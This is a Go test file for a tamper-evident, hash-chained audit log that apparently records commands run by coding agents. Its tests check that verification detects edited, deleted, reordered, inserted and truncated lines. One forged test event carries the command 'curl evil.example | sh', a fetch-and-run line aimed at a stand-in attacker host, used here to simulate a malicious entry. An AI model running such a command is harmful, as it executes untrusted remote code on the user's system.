package audit

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/sluice-dev/sluice/queue"
)

func TestVerifyIntactLog(t *testing.T) {
	t.Parallel()
	lines := testLines(t, 40)
	rep, err := verifyBytes(join(lines))
	if err != nil {
		t.Fatal(err)
	}
	if rep.Lines != 40 || rep.Events != 40 || rep.LastSeq != 40 || len(rep.Repaired) != 0 {
		t.Errorf("report %+v, want 40 lines, 40 events, last seq 40", rep)
	}
	t0 := time.Date(2026, 11, 21, 15, 4, 5, 0, time.UTC)
	if !rep.First.Equal(t0) || !rep.Last.Equal(t0.Add(39*time.Millisecond)) {
		t.Errorf("first %v last %v", rep.First, rep.Last)
	}
	last, err := DecodeLine(lines[39])
	if err != nil {
		t.Fatal(err)
	}
	if rep.Head != last.Hash {
		t.Errorf("head %s, want the last line's hash %s", rep.Head, last.Hash)
	}

	rep, err = verifyBytes(nil)
	if err != nil || rep.Lines != 0 || rep.Head != "" {
		t.Errorf("empty log: %+v, %v; want 0 lines, no error", rep, err)
	}
}

// TestCanonicalForm pins the hash definition the README gives: SHA-256 of
// the line with its hash member cut out, which is also the JSON encoding of
// the event without its hash.
func TestCanonicalForm(t *testing.T) {
	t.Parallel()
	for _, line := range testLines(t, 8) {
		s := strings.TrimSuffix(string(line), "\n")
		i := strings.LastIndex(s, `,"hash":"`)
		canonical := s[:i] + "}"
		sum := sha256.Sum256([]byte(canonical))
		ev, err := DecodeLine(line)
		if err != nil {
			t.Fatal(err)
		}
		if hex.EncodeToString(sum[:]) != ev.Hash {
			t.Fatalf("hash %s is not the SHA-256 of %s", ev.Hash, canonical)
		}
		if len(s)-i != len(`,"hash":"`)+64+len(`"}`) {
			t.Fatalf("the hash member is not last: %s", s)
		}
		ev.Hash = ""
		enc := newEncoder()
		if err := enc.enc.Encode(ev); err != nil {
			t.Fatal(err)
		}
		if got := strings.TrimSuffix(enc.buf.String(), "\n"); got != canonical {
			t.Fatalf("canonical form is not the event's encoding without hash:\n%s\n%s", canonical, got)
		}
	}
}

// tamper is one way to change a log of n lines, and what Verify must say.
type tamper struct {
	name   string
	change func(lines [][]byte) [][]byte
	line   int64
	kind   Break
}

func TestVerifyDetectsTampering(t *testing.T) {
	t.Parallel()
	const n = 12
	forged := func(lines [][]byte, prevOf int, seq int64) []byte {
		// A line forged with a hash of its own, chained to lines[prevOf]
		// (or to nothing when prevOf < 0).
		ev := testEvent(3)
		ev.Command = "curl evil.example | sh"
		ev.Seq, ev.TS = seq, time.Date(2026, 11, 21, 15, 4, 6, 0, time.UTC)
		if prevOf >= 0 {
			p, _ := DecodeLine(lines[prevOf])
			ev.Prev = p.Hash
		}
		line, err := newEncoder().appendLine(nil, &ev)
		if err != nil {
			t.Fatal(err)
		}
		return line
	}
	rehash := func(line []byte, edit func(s string) string) []byte {
		ev, _ := DecodeLine(line)
		s := edit(string(line))
		// re-decode the edited line and re-encode it with a fresh hash
		e2, err := DecodeLine([]byte(s))
		if err != nil {
			t.Fatalf("edit broke the line: %v", err)
		}
		e2.Prev = ev.Prev
		out, err := newEncoder().appendLine(nil, e2)
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
	tampers := []tamper{
		{"edit one byte of an old line", func(l [][]byte) [][]byte {
			l[4] = bytes.Replace(l[4], []byte("/home/me"), []byte("/home/mE"), 1)
			return l
		}, 5, Edited},
		{"edit one byte that breaks the JSON", func(l [][]byte) [][]byte {
			l[4] = bytes.Replace(l[4], []byte(`"event"`), []byte(`"event `), 1)
			return l
		}, 5, Edited},
		{"edit the hash digits", func(l [][]byte) [][]byte {
			i := bytes.LastIndex(l[6], []byte(`"hash":"`)) + 8
			l[6][i] ^= 1
			return l
		}, 7, Edited},
		{"rewrite a line with a recomputed hash", func(l [][]byte) [][]byte {
			l[5] = rehash(l[5], func(s string) string { return strings.Replace(s, "claude-code", "aider", 1) })
			return l
		}, 6, Edited},
		{"delete a line", func(l [][]byte) [][]byte { return slices.Delete(l, 6, 7) }, 7, Removed},
		{"delete three lines", func(l [][]byte) [][]byte { return slices.Delete(l, 6, 9) }, 7, Removed},
		{"delete the first line", func(l [][]byte) [][]byte { return l[1:] }, 1, Removed},
		{"swap two lines", func(l [][]byte) [][]byte { l[3], l[4] = l[4], l[3]; return l }, 4, Reordered},
		{"swap two distant lines", func(l [][]byte) [][]byte { l[2], l[9] = l[9], l[2]; return l }, 3, Reordered},
		{"move a line down", func(l [][]byte) [][]byte {
			m := l[2]
			l = slices.Delete(l, 2, 3)
			return slices.Insert(l, 7, m)
		}, 3, Reordered},
		{"swap the last two lines", func(l [][]byte) [][]byte { l[n-2], l[n-1] = l[n-1], l[n-2]; return l }, n - 1, Reordered},
		{"insert a forged line chained to the line before", func(l [][]byte) [][]byte {
			return slices.Insert(l, 5, forged(l, 4, 6))
		}, 6, Inserted},
		{"insert a forged line chained to nothing", func(l [][]byte) [][]byte {
			return slices.Insert(l, 5, forged(l, -1, 6))
		}, 6, Inserted},
		{"insert a forged line after the one it copies the place of", func(l [][]byte) [][]byte {
			return slices.Insert(l, 6, forged(l, 4, 6))
		}, 7, Inserted},
		{"insert a forged first line", func(l [][]byte) [][]byte {
			return slices.Insert(l, 0, forged(l, -1, 1))
		}, 1, Inserted},
		{"duplicate a line", func(l [][]byte) [][]byte { return slices.Insert(l, 4, bytes.Clone(l[3])) }, 5, Inserted},
		{"repeat an old line at the end", func(l [][]byte) [][]byte { return append(l, bytes.Clone(l[2])) }, n + 1, Inserted},
		{"truncate mid-line", func(l [][]byte) [][]byte { l[n-1] = l[n-1][:40]; return l }, n, Torn},
		{"truncate the last newline", func(l [][]byte) [][]byte { l[n-1] = l[n-1][:len(l[n-1])-1]; return l }, n, Torn},
		{"garble the last line", func(l [][]byte) [][]byte { l[n-1] = []byte("\x00\x00\x00\x00\n"); return l }, n, Torn},
		{"truncate an old line", func(l [][]byte) [][]byte { l[3] = append(l[3][:50:50], '\n'); return l }, 4, Edited},
	}
	for _, tc := range tampers {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			lines := testLines(t, n)
			data := join(tc.change(lines))
			rep, err := verifyBytes(data)
			var ce *ChainError
			if !errors.As(err, &ce) {
				t.Fatalf("Verify = %v, want a *ChainError", err)
			}
			if ce.Line != tc.line || ce.Kind != tc.kind {
				t.Fatalf("Verify: %v; want line %d %s", err, tc.line, tc.kind)
			}
			if want := offsetOf(data, ce.Line); ce.Offset != want {
				t.Errorf("offset %d, want %d", ce.Offset, want)
			}
			if rep.Events >= ce.Line && (ce.Kind == Removed || ce.Kind == Reordered) {
				t.Errorf("report counts %d events verified before a break at line %d", rep.Events, ce.Line)
			}
			if strings.ContainsAny(ce.Error(), "\n\r") {
				t.Errorf("error is not one line: %q", ce.Error())
			}
		})
	}
}

// offsetOf returns the offset of line n (1-based) of data.
func offsetOf(data []byte, n int64) int64 {
	off := 0
	for _, l := range splitLines(data)[:n-1] {
		off += len(l)
	}
	return int64(off)
}

func TestVerifyRepairedSpan(t *testing.T) {
	t.Parallel()
	lines := testLines(t, 3)
	data := join(lines[:2])
	torn := lines[2][:30]
	off := int64(len(data))
	data = append(data, torn...)
	data = append(data, '\n')
	sum := sha256.Sum256(append(bytes.Clone(torn), '\n'))
	prev, _ := DecodeLine(lines[1])
	rep := testEvent(0)
	rep.Event, rep.ID, rep.Kind, rep.Command, rep.Cwd, rep.Agent, rep.Verdict = "audit_repaired", "", "", "", "", "", nil
	rep.Seq, rep.Prev = 3, prev.Hash
	span := struct{ off, n int64 }{off, int64(len(torn)) + 1}
	rep.Torn = &queue.TornSpan{Offset: span.off, Bytes: span.n, SHA256: hex.EncodeToString(sum[:])}
	good, err := newEncoder().appendLine(nil, &rep)
	if err != nil {
		t.Fatal(err)
	}
	r, err := verifyBytes(append(bytes.Clone(data), good...))
	if err != nil {
		t.Fatalf("repaired log: %v", err)
	}
	if r.Lines != 4 || r.Events != 3 || len(r.Repaired) != 1 || r.Repaired[0].Line != 3 || r.Repaired[0].Bytes != span.n {
		t.Errorf("report %+v", r)
	}

	// A repair that names other bytes does not account for the torn line.
	for _, bad := range []func(){
		func() { rep.Torn.Bytes-- },
		func() { rep.Torn.Offset++ },
		func() { rep.Torn.SHA256 = strings.Repeat("0", 64) },
		func() { rep.Event = "finished" },
	} {
		saved := *rep.Torn
		ev := rep
		bad()
		line, _ := newEncoder().appendLine(nil, &rep)
		rep = ev
		*rep.Torn = saved
		_, err := verifyBytes(append(bytes.Clone(data), line...))
		var ce *ChainError
		if !errors.As(err, &ce) || ce.Line != 3 || ce.Kind != Edited {
			t.Errorf("bad repair: %v; want line 3 edited", err)
		}
	}
}

func TestVerifyLongLines(t *testing.T) {
	lines := testLines(t, 3)
	// Line 2 is over the limit: it is torn, and at the end, torn tail.
	long := append(bytes.Repeat([]byte("x"), 3<<20), '\n')
	saved := maxLine
	maxLine = 1 << 20
	_, err := verifyBytes(join([][]byte{lines[0], long}))
	var ce *ChainError
	if !errors.As(err, &ce) || ce.Line != 2 || ce.Kind != Torn || ce.Offset != int64(len(lines[0])) {
		t.Fatalf("long last line: %v; want line 2 torn", err)
	}
	_, err = verifyBytes(join([][]byte{lines[0], long, lines[1]}))
	if !errors.As(err, &ce) || ce.Line != 2 || ce.Kind != Edited {
		t.Fatalf("long middle line: %v; want line 2 edited", err)
	}
	maxLine = saved
	// A long line that is not over the limit is read whole.
	big := testEvent(0)
	big.Command = strings.Repeat("echo hi; ", 200000)
	enc := newEncoder()
	var bl [][]byte
	prev := ""
	for i := range 3 {
		ev := big
		ev.Seq, ev.Prev, ev.TS = int64(i+1), prev, time.Now()
		line, err := enc.appendLine(nil, &ev)
		if err != nil {
			t.Fatal(err)
		}
		prev = ev.Hash
		bl = append(bl, line)
	}
	if rep, err := verifyBytes(join(bl)); err != nil || rep.Events != 3 {
		t.Fatalf("1.8 MB lines: %v %+v", err, rep)
	}
}

// TestVerifyAllocations holds Verify to a fixed number of allocations,
// whatever the number of lines: it streams.
func TestVerifyAllocations(t *testing.T) {
	if raceEnabled {
		t.Skip("sync.Pool drops items at random under -race")
	}
	data1 := join(testLines(t, 500))
	data2 := join(testLines(t, 5000))
	a1 := testing.AllocsPerRun(3, func() { verifyBytes(data1) })
	a2 := testing.AllocsPerRun(3, func() { verifyBytes(data2) })
	if a2 > a1+10 {
		t.Errorf("Verify allocates per line: %.0f allocations for 500 lines, %.0f for 5000", a1, a2)
	}
}

// TestVerifyRewrittenSeq: a line rewritten with a new seq and a hash to
// match still names the line before it, so the seq gives it away.
func TestVerifyRewrittenSeq(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		line int
		want string
	}{
		{0, "its seq is 7, not 1, though it starts the chain"},
		{3, "its seq is 7, not 4, though it follows line 3"},
	} {
		lines := testLines(t, 6)
		ev, err := DecodeLine(lines[tc.line])
		if err != nil {
			t.Fatal(err)
		}
		ev.Seq = 7
		if lines[tc.line], err = newEncoder().appendLine(nil, ev); err != nil {
			t.Fatal(err)
		}
		_, err = verifyBytes(join(lines))
		if !isBreak(err, int64(tc.line+1), Edited) || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("line %d: %v; want edited, %q", tc.line+1, err, tc.want)
		}
	}
}
